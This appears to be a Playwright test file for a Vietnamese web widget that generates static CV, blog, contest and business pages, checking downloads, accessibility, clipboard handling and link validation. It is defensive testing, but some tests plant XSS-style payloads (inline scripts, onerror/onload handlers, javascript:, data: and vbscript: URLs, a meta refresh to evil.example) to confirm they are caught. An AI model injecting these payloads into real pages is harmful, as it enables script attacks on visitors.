    assert.deepEqual(json.basics.profiles.map((p) => p.url), ["https://github.com/an"]);
    assert.equal(json.meta.language, "en");

    // The other templates export valid JSON Resume too.
    await useTemplate(ctx, "blog");
    await fillAndSettle(ctx, { postBody: "First post." }, "postTitle", "Xin chào", "Xin chào");
    const blogJson = JSON.parse((await download(ctx, "Download JSON Resume")).text);
    const blogResult = await validateResume(blogJson);
    assert.ok(blogResult.valid, `blog JSON Resume invalid: ${JSON.stringify(blogResult.errors)}`);
    await useTemplate(ctx, "contest");
    await fillAndSettle(
      ctx,
      { entryDescription: "A map of campus.", entryUrl: "https://demo.example.vn/", technologies: "HTML, CSS", school: "Trường Đại học Trà Vinh" },
      "entryName",
      "Bản đồ trường",
      "Bản đồ trường",
    );
    const contestFile = await download(ctx, "Download HTML");
    assert.equal(asPreviewed(contestFile.text), await ctx.srcdoc(), "contest download equals the preview and its favicon");
    const contestJson = JSON.parse((await download(ctx, "Download JSON Resume")).text);
    const contestResult = await validateResume(contestJson);
    assert.ok(contestResult.valid, `contest JSON Resume invalid: ${JSON.stringify(contestResult.errors)}`);
    assert.ok(contestJson.projects.some((p) => p.name === "Bản đồ trường" && p.url === "https://demo.example.vn/"), JSON.stringify(contestJson.projects));

    assert.deepEqual(ctx.since(), [], "requests (downloads are blobs, nothing leaves the tab)");
    assert.deepEqual(ctx.errors, [], "console errors");
    await ctx.context.close();
  });

  for (const lang of ["en", "vi"]) {
    it(`the downloaded page, opened on its own, is a finished page in the widget's language (${lang}): one h1, translated headings, no request, no serious axe-core violation — for each template`, async () => {
      const ctx = await toStarter(lang);
      const t = ctx.t;
      const axe = await readFile(require.resolve("axe-core/axe.min.js"), "utf8");
      const filled = {
        cv: {
          values: {
            about: lang === "vi" ? "Mình là sinh viên năm ba.\n\nMình thích làm web." : "I am a third-year student.\n\nI like making websites.",
            organisation: "Trường Đại học Trà Vinh",
            skills: "HTML, CSS, Rust",
            projectName: "Lịch thi",
            projectDescription: lang === "vi" ? "Lịch thi cho lớp của mình." : "An exam timetable for my class.",
            projectUrl: "https://github.com/an/lich-thi",
            linkUrl: "https://github.com/an",
            email: "an.nguyen@example.com",
          },
          last: ["headline", lang === "vi" ? "Sinh viên năm ba ngành CNTT" : "Third-year IT student"],
          h1: VISITOR.name,
        },
        blog: {
          values: { postBody: lang === "vi" ? "Đây là bài viết đầu tiên." : "This is my first post." },
          last: ["postTitle", lang === "vi" ? "Bài viết đầu tiên" : "My first post"],
          h1: VISITOR.name,
        },
        contest: {
          values: {
            entryDescription: lang === "vi" ? "Bản đồ khuôn viên trường." : "A map of the campus.",
            entryUrl: "https://demo.example.vn/",
            school: "Trường Đại học Trà Vinh",
            technologies: "HTML, CSS",
          },
          last: ["teamName", "Sao Khuê"],
          h1: lang === "vi" ? "Bản đồ trường" : "Campus map",
        },
      };
      for (const template of ["cv", "blog", "contest"]) {
        await useTemplate(ctx, template);
        const f = filled[template];
        const values = { ...f.values };
        if (template === "contest") values.entryName = f.h1;
        await fillAndSettle(ctx, values, f.last[0], f.last[1], f.last[1]);
        const file = await download(ctx, t.downloadHtml);
        assert.equal(file.name, `${ctx.domain}.html`);
        assert.equal(asPreviewed(file.text), await ctx.srcdoc(), `${template}: download equals the preview and its favicon`);
        const path = join(downloads, `${lang}-${template}-${file.name}`);
        await file.download.saveAs(path);
        const url = pathToFileURL(path).href;

        // Opened directly from disk, in a fresh context that records every request.
        const opened = await newPage(browser, server.url);
        await opened.page.goto(url);
        await opened.page.waitForLoadState("load");
        const doc = await opened.page.evaluate(() => ({
          lang: document.documentElement.lang,
          title: document.title,
          h1: [...document.querySelectorAll("h1")].map((h) => h.textContent),
          h2: [...document.querySelectorAll("h2")].map((h) => h.textContent),
          landmarks: ["header", "main", "footer"].map((n) => document.querySelectorAll(`body > ${n}`).length),
          scripts: document.scripts.length,
          csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content,
          bodyText: document.body.innerText,
        }));
        assert.equal(doc.lang, lang, `${template}: <html lang>`);
        assert.deepEqual(doc.h1, [f.h1], `${template}: one h1`);
        for (const heading of HEADINGS[lang][template]) {
          assert.ok(doc.h2.includes(heading), `${template} (${lang}): heading "${heading}" missing from ${JSON.stringify(doc.h2)}`);
        }
        if (template === "blog") assert.equal(doc.h2[0], f.last[1]);
        assert.deepEqual(doc.landmarks, [1, 1, 1], `${template}: header, main, footer`);
        assert.equal(doc.scripts, 0);
        assert.equal(doc.csp, CSP);
        assert.ok(doc.bodyText.includes(VISITOR.name), `${template}: the visitor's name is on the page`);
        assert.ok(doc.bodyText.includes(ctx.domain), `${template}: the chosen name is on the page`);
        if (template === "contest") assert.ok(doc.bodyText.includes("Sao Khuê"));

        // The page asked for nothing but itself.
        assert.deepEqual(opened.requests.map((r) => r.url), [url], `${template}: requests of the opened page`);

        // axe-core, evaluated through the DevTools protocol (the page's CSP forbids
        // inline scripts, and injecting one would be a request-free but CSP-violating act).
        await opened.page.evaluate(axe);
        const result = await opened.page.evaluate(() => window.axe.run(document));
        const serious = result.violations
          .filter((v) => v.impact === "serious" || v.impact === "critical")
          .map((v) => `${v.id} (${v.impact}): ${v.nodes.map((n) => n.target.join(" ")).join(", ")}`);
        assert.deepEqual(serious, [], `${template} (${lang}): serious/critical axe-core violations`);
        assert.ok(result.passes.length > 10, "axe-core ran");
        assert.deepEqual(opened.errors, [], `${template}: console errors of the opened page`);
        assert.deepEqual(opened.requests.map((r) => r.url), [url], `${template}: requests after axe-core`);
        await opened.context.close();
      }
      assert.deepEqual(ctx.dialogs, []);
      assert.deepEqual(ctx.since(), [], "requests");
      assert.deepEqual(ctx.errors, [], "console errors");
      await ctx.context.close();
    });
  }

  it("the safety checks above are not blind: they catch scripts, handlers, bad links and unescaped payloads planted in a real page", async () => {
    const ctx = await toStarter("en");
    await fillAndSettle(ctx, { projectName: "Lịch thi", projectUrl: "https://github.com/an/lich-thi" }, "headline", "Checker", "Checker");
    const html = await ctx.srcdoc();
    assertSafeHtml(html, "cv", "en", ["<b>x</b>"], "the real page");
    assert.deepEqual((await frameFacts(ctx.frame)).bad, []);
    const planted = {
      script: html.replace("<body>\n", "<body>\n<script>window.pwned=1</script>"),
      handler: html.replace("<h1>", '<h1 onclick="window.pwned=1">'),
      jsLink: html.replace("</main>", '<a href="javascript:window.pwned=1">x</a></main>'),
      dataLink: html.replace('href="https://github.com/an/lich-thi"', 'href="data:text/html,x"'),
      img: html.replace("</h1>", "</h1><img src=x onerror=window.pwned=1>"),
      svg: html.replace("</h1>", "</h1><svg onload=window.pwned=1></svg>"),
      refresh: html.replace("</title>", '</title><meta http-equiv="refresh" content="600;url=https://evil.example/">'),
      noCsp: html.replace(CSP_META + "\n", ""),
      twoH1: html.replace("</header>", "<h1>again</h1></header>"),
      payload: html.replace("Checker</p>", "Checker \"><b>x</b></p>"),
      bidi: html.replace("Checker</p>", "Checker \u202e</p>"),
    };
    for (const [name, bad] of Object.entries(planted)) {
      assert.notEqual(bad, html, `${name} was planted`);
      assert.throws(() => assertSafeHtml(bad, "cv", "en", ["<b>x</b>"], name), assert.AssertionError, `${name} went unnoticed`);
    }
    // The in-browser check, on the planted pages loaded in a scratch page.
    const scratch = await newPage(browser, server.url);
    for (const name of ["script", "handler", "jsLink", "dataLink", "img", "svg", "refresh"]) {
      await scratch.page.setContent(planted[name]);
      const facts = await frameFacts(scratch.page.mainFrame());
      assert.ok(facts.bad.length > 0 || facts.scripts > 0, `${name} went unnoticed in the browser: ${JSON.stringify(facts)}`);
    }
    // Without the CSP, a planted script runs, and the check of window.pwned sees it.
    // (A fresh page: a <meta> CSP set by an earlier setContent would stay in force.)
    const bare = await scratch.context.newPage();
    await bare.setContent(planted.script.replace(CSP_META, ""));
    assert.equal((await frameFacts(bare.mainFrame())).pwned, "number");
    await scratch.context.close();
    await ctx.context.close();
  });

  it("Copy HTML puts the same HTML on the clipboard and says so", async () => {
    const ctx = await toStarter("en");
    await ctx.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: server.url });
    await fillAndSettle(ctx, { about: "Copy me." }, "headline", "Clipboard test", "Clipboard test");
    // Something else on the clipboard first, so a stale or missing copy shows.
    await ctx.page.evaluate(() => navigator.clipboard.writeText("before"));
    const status = ctx.w.locator(".actions [role=status]");
    assert.equal((await status.textContent()).trim(), "");
    await ctx.w.getByRole("button", { name: "Copy HTML", exact: true }).click();
    await ctx.page.waitForFunction(() => document.querySelector("#w").shadowRoot.querySelector(".actions [role=status]")?.textContent.trim() !== "");
    assert.equal((await status.textContent()).trim(), "Copied");
    const copied = await ctx.page.evaluate(() => navigator.clipboard.readText());
    const html = await ctx.srcdoc();
    assert.equal(asPreviewed(copied), html, "the clipboard holds the preview's HTML and its favicon");
    const file = await download(ctx, "Download HTML");
    assert.equal(copied, file.text, "the clipboard holds the downloaded HTML");
    assert.deepEqual(ctx.since(), [], "requests");
    assert.deepEqual(ctx.errors, [], "console errors");
    await ctx.context.close();
  });

  it("when the browser refuses the copy, Copy HTML does not claim \"Copied\" and leaves no unhandled error", async () => {
    // navigator.clipboard.writeText rejects with NotAllowedError when the page may not
    // write the clipboard — e.g. the widget embedded in a cross-origin iframe without
    // allow="clipboard-write" (the iframe mode), or a denied permission. Injected here.
    const ctx = await toStarter("en");
    await ctx.page.evaluate(() => {
      navigator.clipboard.writeText = () => Promise.reject(new DOMException("Write permission denied.", "NotAllowedError"));
    });
    await ctx.w.getByRole("button", { name: "Copy HTML", exact: true }).click();
    await ctx.page.waitForTimeout(1000);
    const status = (await ctx.w.locator(".actions [role=status]").textContent()).trim();
    assert.notEqual(status, "Copied", "the widget says Copied although nothing was copied");
    assert.deepEqual(ctx.errors, [], "console errors (an unhandled rejection of writeText)");
    await ctx.context.close();
  });

  it("a link the page refuses (javascript:, data:, mixed case) gets a plain-language message next to its field and stays out of the preview", async () => {
    const ctx = await toStarter("en");
    const projectUrl = field(ctx.w, "Address (https://…)");
    const linkUrl = field(ctx.w, "Address (https://… or mailto:…)");
    const problem = (control) =>
      control.evaluate((el) => {
        const root = el.getRootNode();
        const ids = (el.getAttribute("aria-describedby") ?? "").split(/\s+/).filter(Boolean);
        return {
          invalid: el.getAttribute("aria-invalid"),
          descriptions: ids.map((id) => {
            const d = root.getElementById(id);
            if (!d) return { id, missing: true };
            const r = d.getBoundingClientRect();
            return { id, text: d.textContent.trim(), visible: r.width > 0 && r.height > 0, nextToField: el.parentElement.contains(d) };
          }),
        };
      });
    const assertRefused = async (control, what) => {
      const p = await problem(control);
      assert.equal(p.invalid, "true", `${what}: aria-invalid`);
      assert.equal(p.descriptions.length, 1, `${what}: aria-describedby ${JSON.stringify(p)}`);
      const [d] = p.descriptions;
      assert.ok(!d.missing, `${what}: aria-describedby names a missing element`);
      assert.match(d.text, L.en.urlRejected, what);
      assert.ok(d.visible, `${what}: the message is visible`);
      assert.ok(d.nextToField, `${what}: the message is next to the field`);
    };
    const assertAccepted = async (control, what) => {
      const p = await problem(control);
      assert.equal(p.invalid, null, `${what}: aria-invalid`);
      assert.deepEqual(p.descriptions, [], `${what}: aria-describedby`);
    };
    await assertAccepted(projectUrl, "empty project address");

    await fillAndSettle(
      ctx,
      { projectName: "My project", projectUrl: "javascript:alert(1)", linkUrl: "JaVaScRiPt:alert(1)" },
      "headline",
      "Refused links one",
      "Refused links one",
    );
    await assertRefused(projectUrl, "project address javascript:alert(1)");
    await assertRefused(linkUrl, "link JaVaScRiPt:alert(1)");
    let html = await ctx.srcdoc();
    assert.ok(html.includes("<h3>My project</h3>"), "the project is shown, unlinked");
    assert.doesNotMatch(html, /javascript:|alert\(1\)/i, "the refused links are absent from the preview");
    assert.deepEqual(
      await ctx.frame.evaluate(() => [...document.querySelectorAll("main a")].map((a) => a.getAttribute("href"))),
      [],
      "no link in the preview's main content",
    );

    await fillAndSettle(ctx, { projectUrl: "data:text/html,<script>alert(1)</script>", linkUrl: "java\tscript:alert(1)" }, "headline", "Refused links two", "Refused links two");
    await assertRefused(projectUrl, "project address data:");
    await assertRefused(linkUrl, "link java<TAB>script:");
    html = await ctx.srcdoc();
    // (The CSP <meta> itself says "img-src data:" and the favicon is a data: URL; nothing else may.)
    assert.doesNotMatch(withoutOwnData(html), /javascript:|data:|alert\(1\)/i);

    // Corrected, the message goes and the links appear: the check above is not blind.
    await fillAndSettle(ctx, { projectUrl: "https://example.com/demo", linkUrl: "https://github.com/an" }, "headline", "Accepted links", "Accepted links");
    await assertAccepted(projectUrl, "https project address");
    await assertAccepted(linkUrl, "https link");
    html = await ctx.srcdoc();
    assert.ok(html.includes('<h3><a href="https://example.com/demo">My project</a></h3>'), "the accepted project address is linked");
    assert.ok(html.includes('href="https://github.com/an"'), "the accepted link is in the page");

    // The contest's demo address has the same check.
    await useTemplate(ctx, "contest");
    const entryUrl = field(ctx.w, "Demo address (https://…)");
    await fillAndSettle(ctx, { entryUrl: "vbscript:msgbox(1)" }, "entryName", "Refused demo", "Refused demo");
    await assertRefused(entryUrl, "contest demo vbscript:");
    assert.doesNotMatch(await ctx.srcdoc(), /vbscript|msgbox/i);

    assert.deepEqual(ctx.dialogs, []);
    assert.deepEqual(ctx.since(), [], "requests");
    assert.deepEqual(ctx.errors, [], "console errors");
    await ctx.context.close();
  });

  it("a biz.vn visitor gets the business page: no school preset, names from eligibility, hours, prices, a tel: link, a directions link and LocalBusiness JSON-LD", async () => {
    const ctx = await openStep("en", BIZ_DRAFT, { organisation: "Trường Đại học Trà Vinh" });
    const { w, t } = ctx;
    assert.equal(await w.getByRole("radio", { name: t.business }).isChecked(), true, "business is the default for biz.vn");
    assert.equal(await w.getByLabel(t.organisation, { exact: true }).count(), 0, "no school field on a business page");
    assert.equal(await w.getByLabel(t.institution, { exact: true }).count(), 0, "no CV list on a business page");
    assert.equal(await field(w, t.businessName).inputValue(), "Tiệm bánh Cô Ba");
    assert.equal(await field(w, t.legalName).inputValue(), "Tiệm bánh Cô Ba");
    assert.equal(await field(w, t.phone).getAttribute("type"), "tel");
    assert.equal(await field(w, t.phone).getAttribute("autocomplete"), "tel");

    await field(w, t.legalName).fill("Hộ kinh doanh Trần Thị Ba");
    await field(w, t.offerName).fill("Bánh tét lá cẩm");
    await field(w, t.price).fill("60.000 đ");
    await w.getByRole("button", { name: "Add product", exact: true }).click();
    await w.getByLabel(t.offerName, { exact: true }).nth(1).fill("Bánh pía sầu riêng");
    await w.getByLabel(t.price, { exact: true }).nth(1).fill("45.000 đ");
    await field(w, t.mondayOpens).fill("6:00");
    await field(w, t.mondayCloses).fill("20:30");
    await w.getByRole("button", { name: "Every day like Monday" }).click();
    await field(w, t.sundayOpens).fill("");
    await field(w, t.sundayCloses).fill("");
    await field(w, t.address).fill("12 Phạm Thái Bường, Trà Vinh");
    await field(w, t.phone).fill("0294 3855 246");
    await field(w, t.zalo).fill("https://zalo.me/0901234567");
    // A refused Facebook address is said beside the field, like every URL.
    await field(w, t.facebook).fill("javascript:alert(1)");
    assert.equal(await field(w, t.facebook).getAttribute("aria-invalid"), "true");
    assert.match(await w.locator("#vnda-facebook-error").innerText(), L.en.urlRejected);
    await field(w, t.facebook).fill("https://facebook.com/tiembanhcoba");
    await field(w, t.bizHeadline).fill("Bánh tét và bánh pía nhà làm");
    await settled(ctx, "Bánh tét và bánh pía nhà làm");

    const html = await ctx.srcdoc();
    assertSafeHtml(html, "business", "en", [], "business page");
    assert.ok(!html.includes("Trường Đại học Trà Vinh"), "the host's school is not on a business page");
    const facts = await frameFacts(ctx.frame);
    assert.deepEqual(facts.bad, []);
    assert.equal(facts.scripts, 0);
    const page = await ctx.frame.evaluate(() => ({
      h1: document.querySelector("h1")?.textContent,
      text: document.body.innerText,
      tel: [...document.querySelectorAll('a[href^="tel:"]')].map((a) => a.getAttribute("href")),
      links: [...document.querySelectorAll("a[href]")].map((a) => a.getAttribute("href")),
    }));
    assert.equal(page.h1, "Tiệm bánh Cô Ba");
    for (const shown of ["Bánh tét lá cẩm", "60.000 đ", "Bánh pía sầu riêng", "45.000 đ", "Hộ kinh doanh Trần Thị Ba", "12 Phạm Thái Bường, Trà Vinh", "06:00", "20:30"]) {
      assert.ok(page.text.includes(shown), `the page shows ${shown}`);
    }
    assert.ok(page.tel.length > 0 && page.tel.every((h) => h === "tel:02943855246" || h === "tel:+842943855246"), JSON.stringify(page.tel));
    const directions = page.links.find((h) => /maps/.test(h));
    assert.ok(directions?.startsWith("https://") && directions.includes(encodeURIComponent("12 Phạm Thái Bường")), `a directions link: ${directions}`);
    assert.ok(page.links.includes("https://zalo.me/0901234567") && page.links.includes("https://facebook.com/tiembanhcoba"), JSON.stringify(page.links));
    assert.equal(facts.jsonLd.length, 1, "one JSON-LD block");
    const [ld] = facts.jsonLd;
    assert.equal(ld["@type"], "LocalBusiness");
    assert.equal(ld.name, "Tiệm bánh Cô Ba");
    assert.match(JSON.stringify(ld.address), /12 Phạm Thái Bường/);
    assert.match(ld.telephone, /2943855246/);
    assert.equal(ld.url, `https://${ctx.domain}/`);
    assert.match(JSON.stringify(ld.openingHours ?? ld.openingHoursSpecification), /06:00/);

    assert.deepEqual(ctx.since(), [], "requests");
    assert.deepEqual(ctx.errors, [], "console errors");
    await ctx.context.close();
  });

  it("CV lists by keyboard alone: add, move up, remove; each button names its entry, focus stays sensible, each action is announced, and the preview and the kept draft follow", async () => {
    const ctx = await openStep("en", CV_DRAFT);
    const { w, page, t } = ctx;
    const focus = () =>
      page.evaluate(() => {
        const el = document.querySelector("#w").shadowRoot.activeElement;
        return { id: el?.id ?? null, label: el?.getAttribute("aria-label") ?? el?.textContent?.trim() ?? null, value: el?.value ?? null };
      });
    const status = () => w.locator(".starter-form [role=status]").innerText();
    const key = async (locator, k = "Enter") => {
      await locator.focus();
      await page.keyboard.press(k);
    };

    // Education: one entry to start with; type, then add a second by keyboard.
    await field(w, t.institution).focus();
    await page.keyboard.type("Trường Đại học Trà Vinh");
    await key(w.getByRole("button", { name: "Add education", exact: true }));
    await page.waitForFunction(() => /^vnda-education-\d+-institution$/.test(document.querySelector("#w").shadowRoot.activeElement?.id ?? "") && document.querySelector("#w").shadowRoot.querySelectorAll('[id$="-institution"]').length === 2);
    const second = await focus();
    assert.notEqual(second.id, (await w.getByLabel(t.institution, { exact: true }).first().getAttribute("id")), "focus is on the new entry");
    assert.equal(await status(), "Added education 2");
    await page.keyboard.type("Trường THPT Chuyên Trà Vinh");

    // Experience: none to start with; two added.
    const onNewRole = () =>
      page.waitForFunction(() => {
        const el = document.querySelector("#w").shadowRoot.activeElement;
        return /^vnda-experience-\d+-role$/.test(el?.id ?? "") && el.value === "";
      });
    await key(w.getByRole("button", { name: "Add experience", exact: true }));
    await onNewRole();
    await page.keyboard.type("Thực tập sinh");
    await key(w.getByRole("button", { name: "Add experience", exact: true }));
    await onNewRole();
    await page.keyboard.type("Gia sư");
    assert.equal((await focus()).value, "Gia sư");

    // Move the second school up: the same button of the moved entry keeps focus.
    const up = w.getByRole("button", { name: "Move 'Trường THPT Chuyên Trà Vinh' up", exact: true });
    await key(up);
    await page.waitForFunction(() => {
      const root = document.querySelector("#w").shadowRoot;
      const schools = [...root.querySelectorAll('[id^="vnda-education-"][id$="-institution"]')].map((i) => i.value);
      return schools[0] === "Trường THPT Chuyên Trà Vinh";
    });
    await page.waitForTimeout(100);
    const afterMove = await focus();
    assert.equal(afterMove.label, "Move 'Trường THPT Chuyên Trà Vinh' up", JSON.stringify(afterMove));
    assert.equal(await w.getByRole("button", { name: "Move 'Trường THPT Chuyên Trà Vinh' up" }).getAttribute("aria-disabled"), "true", "first now: no further up");
    assert.equal(await status(), "Moved 'Trường THPT Chuyên Trà Vinh' up");

    // Remove the second experience: focus on the previous entry's first field.
    await key(w.getByRole("button", { name: "Remove 'Gia sư'", exact: true }));
    await page.waitForFunction(() => document.querySelector("#w").shadowRoot.activeElement?.value === "Thực tập sinh");
    assert.match((await focus()).id, /^vnda-experience-\d+-role$/);
    assert.equal(await status(), "Removed 'Gia sư'");
    // Remove the only one left: focus on Add experience.
    await key(w.getByRole("button", { name: "Remove 'Thực tập sinh'", exact: true }));
    await page.waitForFunction(() => document.querySelector("#w").shadowRoot.activeElement?.id === "vnda-experience-add");
    await key(w.getByRole("button", { name: "Add experience", exact: true }));
    await onNewRole();
    await page.keyboard.type("Tình nguyện viên");

    // The preview follows the order.
    await settled(ctx, "Tình nguyện viên");
    const order = await ctx.frame.evaluate(() => document.body.innerText);
    assert.ok(order.indexOf("Trường THPT Chuyên Trà Vinh") < order.indexOf("Trường Đại học Trà Vinh"), "moved up in the page too");
    assert.ok(!order.includes("Gia sư") && !order.includes("Thực tập sinh"), "removed from the page");

    // The kept draft has the lists by index, and a reload restores them in order.
    const kept = JSON.parse(await page.evaluate(() => sessionStorage.getItem("vnda-draft:w")));
    assert.equal(kept["starter.education.count"], "2");
    assert.equal(kept["starter.education.0.institution"], "Trường THPT Chuyên Trà Vinh");
    assert.equal(kept["starter.education.1.institution"], "Trường Đại học Trà Vinh");
    assert.equal(kept["starter.experience.0.role"], "Tình nguyện viên");
    await page.reload();
    await readyCount(page, 1);
    await w.locator("iframe.preview").waitFor();
    assert.deepEqual(
      await w.getByLabel(t.institution, { exact: true }).evaluateAll((els) => els.map((e) => e.value)),
      ["Trường THPT Chuyên Trà Vinh", "Trường Đại học Trà Vinh"],
    );
    assert.deepEqual(await w.getByLabel(t.role, { exact: true }).evaluateAll((els) => els.map((e) => e.value)), ["Tình nguyện viên"]);
    assert.deepEqual(ctx.errors, [], "console errors");
    await ctx.context.close();
  });

  it("a photo is cropped square and resized in the tab (≤ 400 px JPEG/WebP), shown in the preview, never sent, kept in the draft only when asked; not a picture is said plainly", async () => {
    const ctx = await toStarter("en");
    const { w, page, t } = ctx;
    // A 900 × 600 PNG drawn in the page: a red left half, a blue right half.
    const png = Buffer.from(
      await page.evaluate(async () => {
        const c = document.createElement("canvas");
        c.width = 900;
        c.height = 600;
        const g = c.getContext("2d");
        g.fillStyle = "#d00";
        g.fillRect(0, 0, 450, 600);
        g.fillStyle = "#00d";
        g.fillRect(450, 0, 450, 600);
        const blob = await new Promise((ok) => c.toBlob(ok, "image/png"));
        return [...new Uint8Array(await blob.arrayBuffer())];
      }),
    );
    const input = w.getByLabel(t.photo, { exact: true });
    assert.equal(await input.getAttribute("type"), "file");
    assert.equal(await input.getAttribute("accept"), "image/*");
    await input.setInputFiles({ name: "not-a-photo.txt", mimeType: "text/plain", buffer: Buffer.from("hello") });
    await w.locator("#vnda-photo-error").waitFor();
    assert.match(await w.locator("#vnda-photo-error").innerText(), /not a picture/);

    const mark = ctx.requests.length;
    await input.setInputFiles({ name: "an.png", mimeType: "image/png", buffer: png });
    await settled(ctx, "<img");
    assert.equal(await w.locator("#vnda-photo-error").count(), 0, "the error went");
    const img = await ctx.frame.evaluate(async () => {
      const i = document.querySelector("img");
      await i.decode();
      const c = document.createElement("canvas");
      c.width = i.naturalWidth;
      c.height = i.naturalHeight;
      const g = c.getContext("2d");
      g.drawImage(i, 0, 0);
      const px = (x, y) => [...g.getImageData(x, y, 1, 1).data.slice(0, 3)];
      return { src: i.getAttribute("src"), w: i.naturalWidth, h: i.naturalHeight, left: px(20, 200), right: px(380, 200) };
    });
    assert.match(img.src, /^data:image\/jpeg;base64,/);
    assert.deepEqual([img.w, img.h], [400, 400], "square, 400 px");
    // The centre square of 600 × 600 holds both halves: red on the left, blue on the right.
    assert.ok(img.left[0] > 150 && img.left[2] < 100, `left is red: ${img.left}`);
    assert.ok(img.right[2] > 150 && img.right[0] < 100, `right is blue: ${img.right}`);
    assert.equal(await w.locator("img.thumb").getAttribute("src"), img.src, "the thumbnail");
    const base64 = img.src.split(",")[1];
    // No request at all, so none carries it.
    assert.deepEqual(ctx.requests.slice(mark), [], "no request while choosing the photo");
    assert.equal(await page.evaluate(() => sessionStorage.length), 0, "nothing stored: no draft was asked for");

    // Its own download, under the name the page's og:image expects.
    const [dl] = await Promise.all([page.waitForEvent("download"), w.getByRole("button", { name: "Download the photo" }).click()]);
    assert.match(dl.suggestedFilename(), /^photo\.jpg$/);
    assert.equal((await readFile(await dl.path())).toString("base64"), base64);
    // And the publishing guide says to put it beside the page.
    const guide = "also download photo.jpg here and upload it to the same folder as index.html";
    assert.equal(await w.getByText(guide).count(), 1, "the guide names the photo file");

    // Kept only once the visitor asks to keep a draft.
    await w.getByRole("button", { name: t.keepDraft }).click();
    await page.waitForFunction(() => JSON.parse(sessionStorage.getItem("vnda-draft:w") ?? "{}")["starter.photo"]?.startsWith("data:image/"));

    // Removed: gone from the preview, focus back on the picker.
    await w.getByRole("button", { name: "Remove photo" }).click();
    await page.waitForFunction(() => document.querySelector("#w").shadowRoot.activeElement?.id === "vnda-photo");
    await page.waitForFunction(() => !document.querySelector("#w").shadowRoot.querySelector("iframe.preview").getAttribute("srcdoc").includes("data:image/jpeg"));
    assert.equal(await w.getByText(guide).count(), 0, "no photo, no photo step in the guide");
    assert.deepEqual(ctx.since(), [], "requests");
    assert.deepEqual(ctx.errors, [], "console errors");
    await ctx.context.close();
  });

  it("themes are a radio group stored in the page; 'See an example' shows the sample without touching the fields", async () => {
    const ctx = await openStep("vi", BIZ_DRAFT);
    const { w } = ctx;
    await w.getByRole("radio", { name: "Đất nung" }).check();
    await settled(ctx, 'class="clay"');
    await w.getByRole("button", { name: "Xem trang mẫu" }).click();
    await ctx.page.waitForFunction(() => !document.querySelector("#w").shadowRoot.querySelector("iframe.preview").getAttribute("srcdoc").includes("Tiệm bánh Cô Ba"));
    assert.ok((await ctx.srcdoc()).includes("<h1>"), "a sample page");
    assert.equal(await field(w, "Tên cửa hàng, doanh nghiệp").inputValue(), "Tiệm bánh Cô Ba", "the fields are untouched");
    await w.getByRole("button", { name: "Quay lại trang của bạn" }).click();
    await settled(ctx, "Tiệm bánh Cô Ba");
    const kept = JSON.parse(await ctx.page.evaluate(() => sessionStorage.getItem("vnda-draft:w")));
    assert.equal(kept["starter.theme"], "clay");
    assert.deepEqual(ctx.errors, [], "console errors");
    await ctx.context.close();
  });
});

/** A kept draft that resumes at the page step: a household business that chose a biz.vn name. */
const BIZ_DRAFT = { program: "biz", step: "page", businessKind: "household", businessName: "Tiệm bánh Cô Ba", chosen: "tiembanhcoba.biz.vn" };
/** The same for a student who chose an id.vn name. */
const CV_DRAFT = { program: "id", step: "page", fullName: "Nguyễn Văn An", chosen: "nguyenvanan.id.vn" };

/**
 * The page step reached by restoring a kept draft (a reload in the same tab), which
 * also proves the draft's page fields: `draft` is what sessionStorage holds.
 */
async function openStep(lang, draft, { organisation } = {}) {
  await distReady();
  const path = `/t/starter-${++pageNo}.html`;
  // The host's school, as inline configuration.
  const config = organisation ? `<script type="application/json">${JSON.stringify({ starter: { organisation } })}</script>` : "";
  const ctx = await newPage(browser, server.url, {
    pages: { [path]: hostPage(`<vn-domain-assistant id="w" lang="${lang}" program="${draft.program}" today="${TODAY}">${config}</vn-domain-assistant>`) },
  });
  await ctx.page.addInitScript((d) => {
    try {
      if (!sessionStorage.getItem("vnda-draft:w")) sessionStorage.setItem("vnda-draft:w", JSON.stringify(d));
    } catch {
      // The sandboxed preview frame has no storage.
    }
  }, draft);
  await ctx.page.goto(server.url + path);
  await readyCount(ctx.page, 1);
  const w = ctx.page.locator("#w");
  const iframe = w.locator("iframe.preview");
  await iframe.waitFor();
  const frame = await (await iframe.elementHandle()).contentFrame();
  await frame.waitForFunction(() => document.querySelector("h1"), null, { polling: 50 });
  const mark = ctx.requests.length;
  return {
    ...ctx,
    t: L[lang] ?? L.en,
    lang,
    w,
    domain: draft.chosen,
    iframe,
    frame,
    srcdoc: () => iframe.getAttribute("srcdoc"),
    since: () => ctx.requests.slice(mark).map((r) => `${r.method} ${r.url}`),
  };
}
